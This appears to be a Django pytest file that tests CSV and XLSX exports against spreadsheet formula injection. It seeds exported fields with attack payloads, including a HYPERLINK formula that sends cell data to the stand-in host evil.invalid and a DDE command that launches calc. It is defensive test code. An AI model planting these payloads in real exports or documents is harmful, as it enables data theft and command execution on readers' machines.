"""No export carries a live formula (the attack: a scenario title =HYPERLINK(...) in the XLSX).

Every text field that reaches an export is given a formula payload, then every export is
opened as a spreadsheet program would open it (``csv`` and openpyxl): no cell is a formula,
every payload is still there as text, and in XLSX the cell is a string marked "quote prefix".
"""

import csv
import io
from decimal import Decimal, InvalidOperation

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from apps.authorizations.models import Scenario
from apps.core.exports import FORMULA_STARTS
from apps.organisations.models import Department, Operator
from apps.revenue import services
from apps.revenue.models import RevenueShareRecord
from tests.revenue.conftest import LAST_MONTH, TWO_MONTHS_AGO, verified

HYPERLINK = '=HYPERLINK("http://evil.invalid/?d="&A1,"Click me")'
PAYLOADS = {
    "operator": HYPERLINK,
    "department": "+SUM(A1:A9)",
    "scenario": "@cmd|' /C calc'!A0",
    "reason": "-2+3",
    "tab": "\t=1+1",
}


@pytest.fixture
def poisoned(grant, authorization, operator, operator_member, entry, reviewer, approver, rival):
    """The revenue world of the exports, every text that reaches them a formula payload."""
    other, member = rival
    theirs = grant(other, member, entry, revenue_share_ratio=Decimal("0.2500"))
    verified(authorization, operator_member, reviewer, TWO_MONTHS_AGO, "1000.00")
    verified(theirs, member, reviewer, TWO_MONTHS_AGO, "333.33")
    services.settlement_run(period=TWO_MONTHS_AGO, actor=reviewer)
    original = RevenueShareRecord.objects.get(authorization=authorization)
    services.revenue_share_adjust(
        record=original, corrected_amount=Decimal("1.00"), reason=PAYLOADS["reason"],
        actor=approver,
    )  # fmt: skip
    verified(authorization, operator_member, reviewer, LAST_MONTH, "2000.00")
    services.settlement_run(period=LAST_MONTH, actor=reviewer)
    Operator.objects.filter(pk=operator.pk).update(name=PAYLOADS["operator"])
    Operator.objects.filter(pk=other.pk).update(name=PAYLOADS["tab"])
    Department.objects.filter(pk=entry.department_id).update(name=PAYLOADS["department"])
    Scenario.objects.filter(pk=authorization.scenario_id).update(title=PAYLOADS["scenario"])
    return authorization


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def _csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), cell
    return cells


def _xlsx_cells(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str):
                    if cell.value.startswith(FORMULA_STARTS):
                        assert cell.data_type == "s" and cell.quotePrefix, cell.value
                    texts.append(cell.value)
    return texts


def _get(client, user, url: str, query: dict | None = None) -> bytes:
    client.force_login(user)
    response = client.get(url, query or {})
    assert response.status_code == 200, url
    return b"".join(response.streaming_content) if response.streaming else response.content


def _carries(cells: list[str], *keys: str) -> None:
    text = "\n".join(cells)
    for key in keys:
        assert PAYLOADS[key].lstrip("\t") in text, key


def test_no_csv_export_carries_a_formula(client, poisoned, auditor, department_member):
    ledger = _csv_cells(_get(client, auditor, reverse("bureau_revenue:ledger-csv")))
    _carries(ledger, "operator", "department", "reason", "tab")
    department = _csv_cells(
        _get(client, department_member, reverse("department_revenue:export-csv"))
    )
    _carries(department, "operator", "department", "reason")
    disclosure = _csv_cells(_get(client, auditor, reverse("authorizations:disclosure-csv")))
    _carries(disclosure, "operator", "department", "scenario")
    year = str(LAST_MONTH.year)
    assessment = _csv_cells(
        _get(
            client,
            auditor,
            reverse("reporting:bureau-assessment"),
            {"period": year, "export": "csv"},
        )
    )
    _carries(assessment, "department")


def test_no_xlsx_export_carries_a_formula(
    client, poisoned, auditor, department_member, operator_member, operator
):
    ledger = _xlsx_cells(_get(client, auditor, reverse("bureau_revenue:ledger-xlsx")))
    _carries(ledger, "operator", "department", "reason", "tab")
    department = _xlsx_cells(
        _get(client, department_member, reverse("department_revenue:export-xlsx"))
    )
    _carries(department, "operator", "department", "reason")
    year = LAST_MONTH.year
    own = _xlsx_cells(
        _get(client, operator_member, reverse("operator_revenue:annual-report-xlsx", args=[year]))
    )
    _carries(own, "operator", "scenario")
    bureau = _xlsx_cells(
        _get(
            client, auditor, reverse("bureau_revenue:annual-report-xlsx", args=[operator.pk, year])
        )
    )
    _carries(bureau, "operator", "scenario")
    assessment = _xlsx_cells(
        _get(
            client,
            auditor,
            reverse("reporting:bureau-assessment"),
            {"period": str(year), "export": "xlsx"},
        )
    )
    _carries(assessment, "department")
